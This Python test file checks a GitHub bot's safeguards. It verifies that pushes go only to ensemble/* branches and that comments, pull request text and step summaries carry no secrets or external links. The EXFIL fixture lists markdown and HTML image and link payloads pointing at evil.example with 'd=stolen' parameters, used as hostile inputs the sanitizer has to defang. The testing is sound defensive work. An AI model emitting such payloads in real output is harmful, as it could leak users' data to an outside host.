"""What the bot writes on GitHub and where it pushes, against the fake GitHub through PyGithub and real git.

Pushes go to `ensemble/*` branches only. Comments, PR titles and bodies, review replies and the
step summary hold no secret, no image and no link to a foreign host that could carry data out
(model text and issue text end up in all of them).
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from actions.app import write_outputs
from actions.context import Outcome
from actions.github import GitHubError, GitHubRepo
from fakes.github_server import FakeGitHub

REPO = "octo/demo"
EXFIL = ("Done. ![status](https://evil.example/pixel.png?d=stolen) <img src=\"https://evil.example/i?d=stolen\"> "
         "[details](https://evil.example/r?d=stolen) <https://evil.example/auto?d=stolen> "
         "https://evil.example/bare?d=stolen www.evil.example/w?d=stolen [ref]: https://evil.example/ref?d=stolen "
         "<a href=\"https://evil.example/a?d=stolen\">here</a> ![x](//evil.example/p?d=stolen) "
         "https://github.com@evil.example/u?d=stolen")


@pytest.fixture
def fake(tmp_path: Path) -> Iterator[FakeGitHub]:
    with FakeGitHub(tmp_path / "github") as server:
        server.add_repo(REPO, {"app.py": "print('hi')\n"})
        server.add_issue(REPO, "a task", "do it")
        yield server


@pytest.fixture
def github(fake: FakeGitHub) -> GitHubRepo:
    return GitHubRepo(REPO, fake.token, fake.api_url, fake.server_url, max_wait_s=1, sleep=lambda _s: None)


def committed_clone(github: GitHubRepo, tmp_path: Path) -> Path:
    clone = github.clone(tmp_path / "clone")
    (clone / "app.py").write_text("print('bye')\n")
    subprocess.run(["git", "commit", "-qam", "change\n\nEnsemble-Run: r1"], cwd=clone, check=True)
    return clone


def assert_inert(text: str, fake: FakeGitHub) -> None:
    """No image, no loadable or clickable address of the foreign host; the GitHub server's own links stay."""
    assert "evil.example" not in text and "https://evil" not in text and "http://evil" not in text
    assert "<img" not in text and "<a " not in text and "![" not in text
    assert "stolen" in text  # defanged, not hidden: a reader still sees what the model wrote


@pytest.mark.parametrize("branch", ["main", "refs/heads/main", "release/1.0", "ensemble", "ensemble/../main",
                                    "feature/ensemble/x"])
def test_pushes_go_only_to_ensemble_branches(github: GitHubRepo, fake: FakeGitHub, tmp_path: Path,
                                             branch: str) -> None:
    clone = committed_clone(github, tmp_path)
    main_before = fake.head_sha(REPO, "main")
    with pytest.raises(GitHubError, match=r"pushes only to its own ensemble/\* branches"):
        github.push(clone, branch, expected=main_before, source="HEAD")
    assert fake.head_sha(REPO, "main") == main_before
    assert fake.head_sha(REPO, branch.removeprefix("refs/heads/")) in (None, main_before)


def test_a_push_to_the_bots_own_branch_goes_through(github: GitHubRepo, fake: FakeGitHub, tmp_path: Path) -> None:
    clone = committed_clone(github, tmp_path)
    github.push(clone, "ensemble/issue-1", expected=None, source="HEAD")
    assert fake.head_sha(REPO, "ensemble/issue-1") is not None


def test_comments_carry_no_external_images_or_links(github: GitHubRepo, fake: FakeGitHub) -> None:
    own = f"{fake.server_url}/{REPO}/pull/2"
    github.comment(1, f"{EXFIL}\n\nSee [the PR]({own}).")
    body = fake.comments_on(REPO, 1)[-1]["body"]
    assert_inert(body, fake)
    assert f"[the PR]({own})" in body


def test_edited_comments_are_made_inert_too(github: GitHubRepo, fake: FakeGitHub) -> None:
    comment_id = github.comment(1, "working")
    github.edit_comment(1, comment_id, EXFIL)
    assert_inert(fake.comments_on(REPO, 1)[-1]["body"], fake)


def test_pull_request_titles_and_bodies_carry_no_external_images_or_links(github: GitHubRepo, fake: FakeGitHub,
                                                                          tmp_path: Path) -> None:
    clone = committed_clone(github, tmp_path)
    github.push(clone, "ensemble/issue-1", expected=None, source="HEAD")
    pull = github.open_draft_pull("ensemble/issue-1", "main", "Fix https://evil.example/t?d=stolen", EXFIL)
    assert_inert(github.pull(pull.number).body, fake)
    github.update_pull_body(pull.number, "v2 " + EXFIL)
    assert_inert(github.pull(pull.number).body, fake)
    assert "evil.example" not in fake.repos[REPO].issues[pull.number]["title"]


def test_comments_and_pull_bodies_hold_no_secret(fake: FakeGitHub, monkeypatch: pytest.MonkeyPatch,
                                                 tmp_path: Path) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "openai-key-value-in-a-comment-77")
    github = GitHubRepo(REPO, fake.token, fake.api_url, fake.server_url, secrets=["openai-key-value-in-a-comment-77"])
    github.comment(1, f"the key is openai-key-value-in-a-comment-77, the token {fake.token}, a pat ghp_{'Z' * 36}")
    body = fake.comments_on(REPO, 1)[-1]["body"]
    assert "openai-key-value" not in body and fake.token not in body and "ghp_" not in body
    assert body.count("[REDACTED]") == 3


def test_the_step_summary_holds_no_secret_and_no_external_image(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "summary-token-value-3391")
    summary, outputs = tmp_path / "summary.md", tmp_path / "outputs"
    env = {"GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(outputs), "GITHUB_REPOSITORY": REPO,
           "GITHUB_SERVER_URL": "https://github.com"}
    write_outputs(env, Outcome("failed", f"summary-token-value-3391 and ghp_{'Y' * 36}; {EXFIL}", pr_number=7))
    text = summary.read_text()
    assert "summary-token-value-3391" not in text and "ghp_" not in text
    assert "evil.example" not in text and "![" not in text and "<img" not in text
    assert f"https://github.com/{REPO}/pull/7" in text
